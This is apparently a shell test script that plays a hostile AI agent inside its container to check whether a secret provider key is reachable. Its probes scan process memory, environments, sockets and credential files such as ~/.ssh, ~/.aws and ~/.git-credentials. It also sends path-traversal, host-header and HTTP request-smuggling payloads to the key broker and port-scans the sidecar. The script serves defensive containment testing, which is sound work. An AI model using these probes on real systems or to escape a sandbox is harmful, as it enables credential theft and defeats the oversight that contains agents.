# Looks for a key that must not be here: as an agent that means ill, from within its own container. One line for each attempt,
# `NAME found|nothing` or `NAME STATUS`, and before it a line for its control, `control-NAME found` or `control-NAME 200`.
#
# The key comes in two halves, so that what looks for it is not what it finds. Beside it another value is looked for in the
# same way, which is in all these places: else an attempt would prove nothing. The control of a request is the same request as
# the agent makes it, just before.
#
# look.sh HALF HALF CONTROL-HALF CONTROL-HALF FORMER-PLACEHOLDER
key=$1$2 control=$3$4 former=$5

mkdir -p ~/.ssh ~/.pi/agent/sessions/--x
for place in ~/control /tmp/control control gone /dev/shm/control ~/.netrc ~/.ssh/id ~/.pi/agent/sessions/--x/control; do
    echo "$control" >"$place"
done
git config looked.for "$control"
exec 9<gone
rm gone
CONTROL=$control sleep 600 &
environment=$!
perl -e 'sleep 600' "$control" &
arguments=$!
perl -MSocket -e '
    socket(my $s, AF_UNIX, SOCK_STREAM, 0); bind($s, pack_sockaddr_un("/tmp/control.sock")); listen($s, 9);
    while (accept(my $client, $s)) { syswrite $client, "$ARGV[0]\n" }' "$control" &

# What is begun in the background is there a moment later.
for _ in $(seq 200); do
    grep -qa "CONTROL=" "/proc/$environment/environ" && grep -qa perl "/proc/$arguments/cmdline" && [ -S /tmp/control.sock ] && break
    sleep 0.05
done

# Reads its standard input.
seen() { if grep -qaFf <(printf %s "$1"); then echo found; else echo nothing; fi; }

# One way of looking: a command that prints all that it can see.
look() {
    echo "control-$1 $(eval "$2" 2>/dev/null | seen "$control")"
    echo "$1 $(eval "$2" 2>/dev/null | seen "$key")"
}

# What processes have in memory, but for those that look: they know what they look for.
memory() {
    perl -e '
        for my $process (glob "/proc/[0-9]*") {
            next if (readlink("$process/exe") // "") =~ /bash|grep/;
            open(my $maps, "<", "$process/maps") && open(my $memory, "<", "$process/mem") or next;
            while (<$maps>) {
                my ($from, $to) = /^([0-9a-f]+)-([0-9a-f]+) r/ or next;
                ($from, $to) = (hex $from, hex $to);
                next if $to - $from > 64 << 20;
                my $bytes;
                sysseek($memory, $from, 0) && sysread($memory, $bytes, $to - $from) and print $bytes;
            }
        }'
}

# What is said to whoever connects to a socket of the file system or without a file.
sockets() {
    perl -MSocket -e '
        for (do { local @ARGV = "/proc/net/unix"; <> }) {
            my ($path) = /\s([\/\@]\S+)$/ or next;
            $path =~ s/^\@/\0/;
            socket(my $socket, AF_UNIX, SOCK_STREAM, 0);
            connect($socket, pack_sockaddr_un($path)) or next;
            vec(my $ready = "", fileno $socket, 1) = 1;
            my $said;
            select($ready, undef, undef, 0.3) > 0 && sysread($socket, $said, 4096) and print $said;
        }'
}

look environment 'cat /proc/*/environ'
look arguments 'cat /proc/[0-9]*/cmdline'
look memory memory
look descriptors 'for f in /proc/[0-9]*/fd/*; do [ -f "$f" ] && head -c 2000000 "$f"; done'
look sockets sockets
look home 'find ~ -type f -size -2000k -exec cat {} +'
look dotfiles 'cat ~/.netrc ~/.npmrc ~/.ssh/* ~/.git-credentials ~/.docker/* ~/.config/gh/* ~/.config/acli/* ~/.aws/*'
look transcripts 'cat ~/.pi/agent/sessions/*/*'
look files 'find /tmp /run /etc /var /mnt /srv /opt -type f -size -2000k -exec cat {} +'
look shared-memory 'cat /dev/shm/*'
look repository 'find . -type f -size -2000k -exec cat {} +'
look git 'git config --list; git log -p --all'
look init 'cat /proc/1/root/tmp/* /proc/[0-9]*/cwd/*'
look mounts 'for p in $(cut -d" " -f5 /proc/self/mountinfo | grep -v "^/proc\|^/sys\|^/dev\|^/$"); do find "$p" -xdev -maxdepth 2 -type f -size -2000k -exec cat {} +; done'
look agent 'pi auth print-api-key --provider corp; GROQ_API_KEY=$control pi auth print-api-key --provider groq'

# The broker: the address and the placeholder are the agent's own.
base=$(jq -r .providers.corp.baseUrl ~/.pi/agent/models.json)
place=$(jq -r .providers.corp.apiKey ~/.pi/agent/models.json)
origin=${base%"${base#http://*/}"}
path=/${base#http://*/}
body='{"model":"echo","messages":[{"role":"user","content":"hello"}],"stream":true}'
plain() {
    curl --noproxy '*' -s -m 10 -o /dev/null -w '%{http_code}' -H "authorization: Bearer $place" \
        -H 'content-type: application/json' -d "$body" "$base/chat/completions"
}
ask() {
    name=$1
    shift
    echo "control-$name $(plain)"
    out=$(curl --noproxy '*' -s -m 5 -o answer -w '%{http_code}' --path-as-is "$@" 2>/dev/null)
    if grep -qaFf <(printf %s "$key") answer; then out=found; fi
    echo "$name $out"
}
post() {
    name=$1 url=$2
    shift 2
    ask "$name" -H "authorization: Bearer $place" -H 'content-type: application/json' -d "$body" "$@" "$url"
}
post ask-models "$base/models"
post ask-above "$base/../chat/completions"
post ask-dots "$base/x/../chat/completions"
post ask-encoded-dots "$base/%2e%2e/chat/completions"
post ask-query "$base/chat/completions?key=1"
post ask-files "$base/files"
post ask-slashes "${base}//chat/completions"
post ask-semicolon "$base/chat/completions;x"
post ask-upper "${origin}CUSTOM0-CORP/llm.test/v1/chat/completions"
post ask-other-host "${origin}custom0-corp/evil.test/v1/chat/completions"
post ask-root "${origin}v1/chat/completions"
post ask-absolute "${origin}" --request-target "https://evil.test/v1/chat/completions"
post ask-host-header "$base/chat/completions" -H 'host: evil.test'
post ask-forwarded "$base/chat/completions" -H 'x-forwarded-host: evil.test' -H 'x-original-url: /v1/files'
post ask-put "$base/chat/completions" -X PUT
post ask-delete "$base/chat/completions" -X DELETE
post ask-trace "$base/chat/completions" -X TRACE
post ask-connect "${origin}" -X CONNECT --request-target "llm.test:443"
post ask-override "$base/files" -H 'x-http-method-override: POST' -H 'x-rewrite-url: /v1/chat/completions'
post ask-upgrade "$base/chat/completions" -H 'connection: upgrade' -H 'upgrade: h2c'
post ask-chunked "$base/chat/completions" -H 'transfer-encoding: chunked'
ask ask-get "$base/chat/completions" -H "authorization: Bearer $place"
ask ask-nobody -d "$body" "$base/chat/completions"
ask ask-former -H "authorization: Bearer $former" -d "$body" "$base/chat/completions"
ask ask-own-key -H 'authorization: Bearer sk-of-the-attacker' -d "$body" "$base/chat/completions"
ask ask-in-another-header -H "x-api-key: $place" -d "$body" "$base/chat/completions"
ask ask-twice -H "authorization: Bearer $place" -H 'authorization: Bearer x' -d "$body" "$base/chat/completions"
ask ask-lower -H "authorization: bearer $place" -d "$body" "$base/chat/completions"
ask ask-part -H "authorization: Bearer ${place%?}" -d "$body" "$base/chat/completions"
ask ask-statistics "${origin}haproxy?stats"
ask ask-metrics "${origin}metrics"
ask ask-http2 --http2-prior-knowledge -H "authorization: Bearer $place" -d "$body" "$base/chat/completions"

# Requests whose very bytes are odd. What of them reaches the provider, it tells itself.
host=${origin#http://}
host=${host%%[:/]*}
raw() {
    echo "control-raw-$1 $(plain)"
    printf %b "$2" | timeout 2 bash -c 'exec 3<>"/dev/tcp/$1/8440"; cat >&3; cat <&3' - "$host" >answer 2>/dev/null
    echo "raw-$1 $(seen "$key" <answer)"
}
line="POST $path/chat/completions HTTP/1.1\\r\\nhost: x\\r\\nauthorization: Bearer $place\\r\\n"
hidden="POST $path/files HTTP/1.1\\r\\nhost: x\\r\\nauthorization: Bearer $place\\r\\ncontent-length: 2\\r\\n\\r\\n{}"
raw length-and-chunks "${line}content-length: 4\\r\\ntransfer-encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n$hidden"
raw chunks-and-length "${line}transfer-encoding: chunked\\r\\ncontent-length: 4\\r\\n\\r\\n5c\\r\\n$hidden"
raw odd-chunks "${line}transfer-encoding: xchunked\\r\\ncontent-length: 2\\r\\n\\r\\n{}$hidden"
raw folded-chunks "${line}transfer-encoding:\\r\\n chunked\\r\\ncontent-length: 2\\r\\n\\r\\n{}$hidden"
raw two-lengths "${line}content-length: 2\\r\\ncontent-length: 200\\r\\n\\r\\n{}$hidden"
raw signed-length "${line}content-length: +2\\r\\n\\r\\n{}$hidden"
raw bare-line-feeds "POST $path/files HTTP/1.1\\nauthorization: Bearer $place\\ncontent-length: 2\\n\\n{}"
raw zero-byte "${line}content-length: 2\\r\\nx: a\\0b\\r\\n\\r\\n{}$hidden"
raw carriage-return "${line}content-length: 2\\r\\nx: a\\rhost: evil.test\\r\\n\\r\\n{}$hidden"
raw pipeline "${line}content-length: 2\\r\\n\\r\\n{}$hidden"
raw http-1.0 "POST $path/files HTTP/1.0\\r\\nauthorization: Bearer $place\\r\\ncontent-length: 2\\r\\n\\r\\n{}"
raw http-0.9 "GET $path/files\\r\\n"
raw http-2 "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n\\0\\0\\0\\04\\0\\0\\0\\0\\0"
raw proxy-protocol "PROXY TCP4 127.0.0.1 127.0.0.1 1 2\\r\\n$hidden"
raw blank-in-path "POST $path/files /v1/chat/completions HTTP/1.1\\r\\nauthorization: Bearer $place\\r\\ncontent-length: 2\\r\\n\\r\\n{}"
raw admins-language "show map /tmp/pi-broker/keys.map\\n"
raw tls "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03"

# All other ports of the sidecar.
perl -MSocket -e '
    my $to = inet_aton(shift) or die;
    my @open;
    for my $port (1 .. 10_000) {
        socket(my $s, AF_INET, SOCK_STREAM, 0) or die;
        push @open, $port if connect($s, pack_sockaddr_in($port, $to));
    }
    print "ports @open\n";' "$host"
